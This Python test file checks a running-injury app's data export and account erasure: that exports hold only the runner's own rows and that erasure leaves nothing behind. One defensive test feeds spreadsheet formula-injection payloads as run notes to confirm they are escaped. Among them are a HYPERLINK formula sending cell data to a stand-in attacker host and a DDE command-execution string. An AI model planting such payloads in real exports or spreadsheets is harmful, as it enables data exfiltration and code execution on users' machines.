"""``GET /export`` and ``DELETE /me`` (DESIGN §3 Profile): the export holds the runner's own
rows and none of another runner's; erasure leaves zero rows in every table."""

from __future__ import annotations

import base64
import csv
import io
import json
import secrets
import zipfile
from datetime import datetime

import pytest
from tests.conftest import Runner, Therapist, invite
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from sqlalchemy import func, select

from strideguard.extensions import db
from tests.support.envelope import assert_error

pytestmark = pytest.mark.database  # its behaviour depends on the database: make test-fast runs its PostgreSQL variant too

EXPORT = "/api/v1/export"
ME = "/api/v1/me"
MY_RUN = "11111111-1111-4111-8111-111111111111"
THEIR_RUN = "22222222-2222-4222-8222-222222222222"


def b64url(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def fill(runner: Runner, label: str, run_id: str) -> None:
    """One row of every kind for ``runner``: shoe, run, check-ins, push subscription, reminder,
    a therapist with access (care link, access log), an open invitation, and an import with
    its per-file result, an imported run deleted, today's stored guidance, and a therapist's
    assessment of the knee."""
    from tests.imports.support import fixture, import_file

    therapist = Therapist(runner.client.application)
    assert therapist.accept(invite(runner)["code"]).status_code == 200
    invite(runner)
    assert import_file(runner, f"{label}.fit", fixture("garmin-fenix-5-bike.fit"))["status"] == "done"
    # An imported run deleted again (remembered, so importing it again asks first).
    imported = import_file(runner, f"{label}-run.fit", fixture("garmin-fr110-run.fit"))["files"][0]["run_id"]
    assert runner.delete(f"/api/v1/runs/{imported}").status_code == 204
    shoe = runner.post("/api/v1/shoes", json={"name": f"{label} shoe"}).get_json()
    assert runner.put(f"/api/v1/runs/{run_id}", json={
        "date": "2025-03-12", "distance_m": 7000, "duration_s": 2400, "shoe_id": shoe["id"],
        "note": f"{label} run note",
    }).status_code == 201
    assert runner.put("/api/v1/checkins/2025-03-12", json={"pain": 2, "note": f"{label} check-in"}).status_code == 201
    key = ec.generate_private_key(ec.SECP256R1()).public_key()
    subscription = runner.post("/api/v1/push/subscriptions", json={
        "endpoint": f"http://127.0.0.1:1/push/{label}",
        "keys": {"p256dh": b64url(key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)),
                 "auth": b64url(secrets.token_bytes(16))},
    })
    assert subscription.status_code == 201, subscription.get_json()
    today = runner.get(ME).get_json()
    assert today["email"] == runner.email
    # High pain in today's check-in queues a reminder for a subscribed runner.
    local_today = runner.get("/api/v1/load").get_json()["as_of"]
    assert runner.put(f"/api/v1/checkins/{local_today}", json={"pain": 8, "swelling": True}).status_code == 201
    assert runner.get("/api/v1/guidance").status_code == 200  # stores today's answer
    # A knee that gave way holds the plan until the therapist records an assessment.
    assert runner.put(f"/api/v1/checkins/{local_today}", json={"pain": 2, "locking_or_giving_way": True}).status_code == 200
    assessed = therapist.post(f"/api/v1/clinic/patients/{runner.user['id']}/assessment", json={})
    assert assessed.status_code == 201, assessed.get_json()
    # An exercise programme the therapist prescribed, with one of their own exercises, and a
    # session the runner logged against it.
    own = therapist.post("/api/v1/clinic/exercises", json={
        "name": f"{label} hold", "instructions": "Hold it.", "trains": ["quadriceps"], "dose": "hold",
        "sets": 1, "reps": 5, "seconds": 30, "sides": "both"})
    assert own.status_code == 201, own.get_json()
    prescribed = therapist.put(f"/api/v1/clinic/patients/{runner.user['id']}/programme", json={"items": [
        {"exercise": own.get_json()["id"], "per_week": 3}, {"exercise": "core.glute_bridge", "per_week": 3}]})
    assert prescribed.status_code == 200, prescribed.get_json()
    logged = runner.put(f"/api/v1/exercise-sessions/{run_id}", json={"date": local_today, "entries": [
        {"exercise": "core.glute_bridge", "sets": [{"reps": 10}], "pain": 1}]})
    assert logged.status_code == 201, logged.get_json()


#: Tables of operations, not of runners: worker heartbeats (host:pid) and the sign-in
#: throttle's counters (keyed by client address, gone within the limit's window: the worker
#: deletes expired counters every tick).
NOT_RUNNER_DATA = {"worker_heartbeats", "rate_limit_counters"}
#: A therapist's own rows (their exercises): ``user_id`` is the therapist's account, so a
#: runner has none; the therapist's erasure removes them (``test_a_therapists_erasure…``).
THERAPIST_DATA = {"custom_exercises"}


def rows_per_table(app, user_id: int) -> dict[str, int]:
    """Rows of ``user_id`` in every table of the schema (``users`` by its id)."""
    counts = {}
    with app.app_context():
        for table in db.metadata.sorted_tables:
            if table.name in NOT_RUNNER_DATA:
                continue
            column = table.c.id if table.name == "users" else table.c.get("user_id")
            assert column is not None, f"{table.name} has no link to a runner: is it per-user data?"
            counts[table.name] = db.session.execute(
                select(func.count()).select_from(table).where(column == user_id)
            ).scalar_one()
        db.session.remove()
    return counts


class TestExportAsOwner:
    def test_json_export_holds_own_rows_and_none_of_another_runners(self, runner: Runner, other: Runner) -> None:
        fill(runner, "mine", MY_RUN)
        fill(other, "theirs", THEIR_RUN)

        response = runner.get(EXPORT)

        assert response.status_code == 200
        assert response.mimetype == "application/json"
        assert response.headers["Content-Disposition"].startswith("attachment;")
        text = response.get_data(as_text=True)
        data = json.loads(text)
        assert data["profile"]["email"] == runner.email
        assert [r["uuid"] for r in data["runs"]] == [MY_RUN]
        assert data["runs"][0]["note"] == "mine run note"
        assert [s["name"] for s in data["shoes"]] == ["mine shoe"]
        assert "mine check-in" in [c["note"] for c in data["checkins"]]
        assert len(data["checkins"]) == 2
        assert [s["endpoint"] for s in data["push_subscriptions"]] == ["http://127.0.0.1:1/push/mine"]
        for leaked in ("theirs", other.email, THEIR_RUN):
            assert leaked not in text
        assert "password_hash" not in text and "user_id" not in text

    def test_json_export_timestamps_carry_their_utc_offset(self, runner: Runner) -> None:
        fill(runner, "mine", MY_RUN)

        data = runner.get(EXPORT).get_json()

        stamps = [data["exported_at"], data["profile"]["created_at"], data["runs"][0]["created_at"],
                  data["checkins"][0]["updated_at"]]
        assert all(datetime.fromisoformat(s).utcoffset() is not None for s in stamps), stamps

    def test_csv_export_is_a_zip_of_csv_files_with_own_rows_only(self, runner: Runner, other: Runner) -> None:
        fill(runner, "mine", MY_RUN)
        fill(other, "theirs", THEIR_RUN)

        response = runner.get(f"{EXPORT}?format=csv")

        assert response.status_code == 200
        assert response.mimetype == "application/zip"
        assert response.headers["Content-Disposition"].endswith('.zip"')
        archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
        names = set(archive.namelist())
        assert {"profile.json", "checkins.csv", "runs.csv", "shoes.csv"} <= names
        runs = list(csv.DictReader(io.StringIO(archive.read("runs.csv").decode())))
        assert [(r["uuid"], r["note"], float(r["distance_m"])) for r in runs] == [(MY_RUN, "mine run note", 7000.0)]
        assert len(list(csv.DictReader(io.StringIO(archive.read("checkins.csv").decode())))) == 2
        assert json.loads(archive.read("profile.json"))["email"] == runner.email
        everything = b"".join(archive.read(name) for name in names).decode()
        for leaked in ("theirs", other.email, THEIR_RUN, "password_hash"):
            assert leaked not in everything

    def test_an_empty_account_exports_empty_tables(self, runner: Runner) -> None:
        data = runner.get(EXPORT).get_json()

        assert data["runs"] == [] and data["checkins"] == [] and data["shoes"] == []
        archive = zipfile.ZipFile(io.BytesIO(runner.get(f"{EXPORT}?format=csv").get_data()))
        header = archive.read("runs.csv").decode("utf-8-sig")  # a header even with no rows
        assert header.splitlines()[0].split(",")[:3] == ["id", "uuid", "date"]

    @pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2",
                                      "-3+cmd|' /C calc'!A0", "@SUM(1,1)", "\tTab", "Plain, with a comma"])
    def test_csv_cells_never_run_as_formulas(self, runner: Runner, note: str) -> None:
        """Found trying it: notes went out exactly as typed, so "=HYPERLINK(...)" in a note ran
        as a formula in the spreadsheet that opened the export."""
        assert runner.put("/api/v1/runs/7d4c2b1a-0e9f-4a8b-9c7d-6e5f4a3b2c1d", json={
            "date": "2025-03-01", "distance_m": 5000, "duration_s": 1800, "note": note}).status_code == 201
        raw = zipfile.ZipFile(io.BytesIO(runner.get(f"{EXPORT}?format=csv").get_data())).read("runs.csv")
        assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: accents read right
        [row] = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
        if note[0] in "=+-@\t":
            assert row["note"] == "'" + note
        else:
            assert row["note"] == note
        assert row["source"] == "manual" and row["pain_during"] == ""

    @pytest.mark.parametrize("fmt", ["xml", "CSV", "", "pdf"])
    def test_an_unknown_format_is_422(self, runner: Runner, fmt: str) -> None:
        assert_error(runner.get(f"{EXPORT}?format={fmt}"), 422, "validation_failed", "format")


class TestExportAsAnonymous:
    def test_export_needs_a_session(self, client) -> None:
        assert_error(client.get(EXPORT), 401, "not_signed_in")


class TestEraseAccountAsOwner:
    def test_a_wrong_password_erases_nothing(self, app, runner: Runner) -> None:
        fill(runner, "mine", MY_RUN)
        before = rows_per_table(app, runner.user["id"])

        assert_error(runner.delete(ME, json={"password": "not-my-password"}), 422, "validation_failed", "password")

        assert rows_per_table(app, runner.user["id"]) == before
        assert runner.get(ME).status_code == 200

    @pytest.mark.parametrize("body", [None, {}, {"password": None}])
    def test_erasure_needs_the_password(self, app, runner: Runner, body: dict | None) -> None:
        response = runner.delete(ME, json=body)

        assert response.status_code == 422
        assert runner.get(ME).status_code == 200
        assert rows_per_table(app, runner.user["id"])["users"] == 1

    def test_erasure_leaves_zero_rows_in_every_table_and_ends_the_session(
        self, app, runner: Runner, other: Runner
    ) -> None:
        fill(runner, "mine", MY_RUN)
        fill(other, "theirs", THEIR_RUN)
        mine = rows_per_table(app, runner.user["id"])
        # every table had something to erase
        assert all(count > 0 for table, count in mine.items() if table not in THERAPIST_DATA), mine
        theirs = rows_per_table(app, other.user["id"])
        token = runner.client.get_cookie("sg_session").value

        response = runner.delete(ME, json={"password": runner.password})

        assert response.status_code == 204
        assert rows_per_table(app, runner.user["id"]) == {table: 0 for table in mine}
        assert rows_per_table(app, other.user["id"]) == theirs
        assert_error(runner.get(ME), 401, "not_signed_in")
        runner.client.set_cookie("sg_session", token)
        assert_error(runner.get(ME), 401, "not_signed_in")
        assert other.get(f"/api/v1/runs/{THEIR_RUN}").status_code == 200
        assert len(other.get(EXPORT).get_json()["checkins"]) == 2

    def test_erasure_deletes_the_uploads_kept_on_disk(self, app, runner: Runner) -> None:
        """Found trying it: a GPX upload kept with keep_file stayed on disk after the account
        was erased (until an orphan sweep an hour later, if a worker ran)."""
        from pathlib import Path

        from tests.imports.support import gpx_run, upload, wait_done

        gpx = gpx_run(datetime(2025, 3, 1, 8, 0), 5000, 1800)
        body = upload(runner, "run.gpx", gpx, keep=True).get_json()
        assert wait_done(runner, body["import"]["id"])["status"] == "done"
        folder = Path(app.config["INSTANCE_PATH"]) / "imports"
        kept = {p.name for p in folder.glob("*.upload")}
        assert kept, "the upload was kept"
        assert runner.delete(ME, json={"password": runner.password}).status_code == 204
        assert kept.isdisjoint(p.name for p in folder.glob("*.upload"))

    def test_every_session_of_the_runner_ends_and_the_email_is_free_again(self, app, runner: Runner) -> None:
        fill(runner, "mine", MY_RUN)
        laptop = app.test_client()
        assert laptop.post("/api/v1/auth/login", json={"email": runner.email,
                                                       "password": runner.password}).status_code == 200

        assert runner.delete(ME, json={"password": runner.password}).status_code == 204

        assert_error(laptop.get(ME), 401, "not_signed_in")
        assert_error(app.test_client().post("/api/v1/auth/login", json={
            "email": runner.email, "password": runner.password}), 401)
        again = app.test_client().post("/api/v1/auth/register", json={"email": runner.email,
                                                                        "password": runner.password})
        assert again.status_code == 201
        fresh = app.test_client()
        fresh.post("/api/v1/auth/login", json={"email": runner.email, "password": runner.password})
        data = fresh.get(EXPORT).get_json()  # a new account inherits nothing of the erased one
        assert [data[t] for t in ("runs", "checkins", "shoes", "push_subscriptions", "reminders")] == [[]] * 5

    def test_erasure_needs_the_csrf_header(self, app, runner: Runner) -> None:
        assert_error(runner.client.delete(ME, json={"password": runner.password}), 403, "csrf_failed")

        assert rows_per_table(app, runner.user["id"])["users"] == 1


class TestEraseAccountAsAnonymous:
    def test_erasure_needs_a_session(self, client) -> None:
        assert_error(client.delete(ME, json={"password": "knee-safe-42x"}), 401, "not_signed_in")
